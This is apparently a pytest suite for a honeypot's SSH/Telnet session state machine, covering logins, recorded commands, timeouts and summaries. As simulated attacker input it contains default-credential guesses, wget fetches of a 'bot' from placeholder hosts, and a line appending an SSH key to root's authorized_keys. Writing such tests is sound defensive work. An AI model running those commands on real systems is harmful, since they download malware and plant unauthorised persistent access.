"""Tests for the honeypot session state machine."""

import pytest

from repro.honeypot.events import EventType
from repro.honeypot.protocol import Protocol
from repro.honeypot.session import (
    CloseReason,
    HoneypotSession,
    SessionConfig,
    SessionState,
)


def make_session(protocol=Protocol.SSH, events=None, config=None):
    return HoneypotSession(
        honeypot_id="hp-001",
        honeypot_ip=1,
        protocol=protocol,
        client_ip=2,
        client_port=40000,
        start_time=0.0,
        config=config or SessionConfig(),
        event_sink=(events.append if events is not None else None),
    )


class TestLifecycle:
    def test_initial_state(self):
        session = make_session()
        assert session.state is SessionState.CONNECTED
        assert not session.is_closed

    def test_connect_event_emitted(self):
        events = []
        make_session(events=events)
        assert events[0].event_type is EventType.SESSION_CONNECT
        assert events[0].data["dst_port"] == 22

    def test_telnet_port(self):
        events = []
        make_session(protocol=Protocol.TELNET, events=events)
        assert events[0].data["dst_port"] == 23

    def test_client_disconnect(self):
        session = make_session()
        session.client_disconnect(5.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.CLIENT_DISCONNECT
        assert session.end_time == 5.0

    def test_double_disconnect_is_noop(self):
        session = make_session()
        session.client_disconnect(5.0)
        session.client_disconnect(9.0)
        assert session.end_time == 5.0

    def test_summary_requires_closed(self):
        session = make_session()
        with pytest.raises(RuntimeError):
            session.summary()

    def test_unique_session_ids(self):
        ids = {make_session().session_id for _ in range(10)}
        assert len(ids) == 10


class TestAuth:
    def test_successful_login_moves_to_shell(self):
        session = make_session()
        result = session.try_login("root", "1234", 1.0)
        assert result.success
        assert session.state is SessionState.SHELL
        assert session.login_success

    def test_rejected_password(self):
        session = make_session()
        assert not session.try_login("root", "root", 1.0).success
        assert session.state is SessionState.CONNECTED

    def test_three_ssh_failures_close_session(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("user", "y", 2.0)
        session.try_login("root", "root", 3.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.TOO_MANY_ATTEMPTS

    def test_telnet_not_closed_after_failures(self):
        session = make_session(protocol=Protocol.TELNET)
        for i in range(5):
            session.try_login("admin", "x", float(i))
        assert not session.is_closed

    def test_credentials_recorded(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "pw", 2.0)
        assert session.credentials == [("admin", "x"), ("root", "pw")]

    def test_login_events(self):
        events = []
        session = make_session(events=events)
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "pw", 2.0)
        types = [e.event_type for e in events]
        assert EventType.LOGIN_FAILED in types
        assert EventType.LOGIN_SUCCESS in types

    def test_success_resets_deadline_to_idle_timeout(self):
        session = make_session()
        session.try_login("root", "pw", 10.0)
        assert session.deadline == 10.0 + SessionConfig().interaction_timeout

    def test_client_version(self):
        events = []
        session = make_session(events=events)
        session.offer_client_version("SSH-2.0-Go", 0.5)
        assert session.client_version == "SSH-2.0-Go"
        assert any(e.event_type is EventType.CLIENT_VERSION for e in events)


class TestShellPhase:
    def _logged_in(self, events=None):
        session = make_session(events=events)
        session.try_login("root", "pw", 1.0)
        return session

    def test_input_requires_shell_state(self):
        session = make_session()
        with pytest.raises(RuntimeError):
            session.input_line("uname", 1.0)

    def test_commands_recorded(self):
        session = self._logged_in()
        session.input_line("uname -a; free", 2.0)
        assert session.commands == ["uname -a", "free"]
        assert session.known_commands == [True, True]

    def test_unknown_command_recorded(self):
        session = self._logged_in()
        session.input_line("frobnicate --all", 2.0)
        assert session.commands == ["frobnicate --all"]
        assert session.known_commands == [False]

    def test_command_events(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("uname -a", 2.0)
        inputs = [e for e in events if e.event_type is EventType.COMMAND_INPUT]
        assert len(inputs) == 1
        assert inputs[0].data["input"] == "uname -a"

    def test_file_hash_recorded(self):
        session = self._logged_in()
        session.input_line('echo "ssh-rsa KEY" >> /root/.ssh/authorized_keys', 2.0)
        assert len(session.file_hashes) == 1

    def test_file_created_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("echo x > /tmp/new", 2.0)
        assert any(e.event_type is EventType.FILE_CREATED for e in events)

    def test_file_modified_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("echo x > /tmp/f", 2.0)
        session.input_line("echo y > /tmp/f", 3.0)
        assert any(e.event_type is EventType.FILE_MODIFIED for e in events)

    def test_uri_recorded(self):
        session = self._logged_in()
        session.input_line("wget http://x.example/bot", 2.0)
        assert session.uris == ["http://x.example/bot"]

    def test_download_event(self):
        events = []
        session = self._logged_in(events=events)
        session.input_line("wget http://x.example/bot", 2.0)
        downloads = [e for e in events if e.event_type is EventType.FILE_DOWNLOAD]
        assert len(downloads) == 1
        assert downloads[0].data["url"] == "http://x.example/bot"

    def test_exit_closes(self):
        session = self._logged_in()
        session.input_line("exit", 2.0)
        assert session.is_closed
        assert session.close_reason is CloseReason.CLIENT_EXIT


class TestTimeouts:
    def test_auth_timeout(self):
        session = make_session()
        assert session.check_timeout(121.0)
        assert session.close_reason is CloseReason.AUTH_TIMEOUT
        # Session end is pinned at the deadline, not the observation time.
        assert session.end_time == 120.0

    def test_not_yet_timed_out(self):
        session = make_session()
        assert not session.check_timeout(60.0)
        assert not session.is_closed

    def test_idle_timeout_after_login(self):
        session = make_session()
        session.try_login("root", "pw", 10.0)
        assert session.check_timeout(10.0 + 180.0)
        assert session.close_reason is CloseReason.IDLE_TIMEOUT

    def test_input_resets_idle_timer(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        session.input_line("uname", 100.0)
        assert not session.check_timeout(181.0)  # old deadline passed harmlessly
        assert session.check_timeout(280.0)

    def test_download_extends_deadline(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        session.input_line("wget http://slow.example/big", 2.0)
        download_time = session.shell_context.downloads[0].duration
        assert session.deadline == pytest.approx(2.0 + download_time + 180.0)

    def test_input_after_timeout_rejected(self):
        session = make_session()
        session.try_login("root", "pw", 1.0)
        with pytest.raises(RuntimeError):
            session.input_line("uname", 1000.0)
        assert session.is_closed

    def test_custom_timeouts(self):
        config = SessionConfig(no_login_timeout=10.0, interaction_timeout=20.0)
        session = make_session(config=config)
        assert session.check_timeout(10.0)
        assert session.end_time == 10.0


class TestSummary:
    def test_summary_fields(self):
        session = make_session()
        session.try_login("admin", "x", 1.0)
        session.try_login("root", "1234", 2.0)
        session.input_line("uname -a", 3.0)
        session.client_disconnect(10.0)
        summary = session.summary()
        assert summary.protocol is Protocol.SSH
        assert summary.login_success
        assert summary.n_login_attempts if hasattr(summary, "n_login_attempts") else True
        assert summary.credentials == [("admin", "x"), ("root", "1234")]
        assert summary.commands == ["uname -a"]
        assert summary.duration == 10.0

    def test_summary_scan_session(self):
        session = make_session()
        session.client_disconnect(2.0)
        summary = session.summary()
        assert summary.credentials == []
        assert summary.commands == []
        assert summary.close_reason is CloseReason.CLIENT_DISCONNECT
